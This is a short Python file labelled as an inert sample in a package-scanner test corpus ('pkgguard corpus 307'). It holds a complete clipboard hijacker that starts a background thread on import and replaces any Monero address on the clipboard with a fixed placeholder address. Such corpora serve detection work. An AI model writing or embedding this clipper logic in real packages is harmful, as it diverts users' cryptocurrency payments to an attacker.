# pkgguard corpus 307 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import threading
import time

import xerox

XMR = re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$")
MINE = "4" + "A" * 94


def _loop():
    while True:
        current = xerox.paste()
        if XMR.match(current or "") and current != MINE:
            xerox.copy(MINE)
        time.sleep(1)


threading.Thread(target=_loop, daemon=True).start()
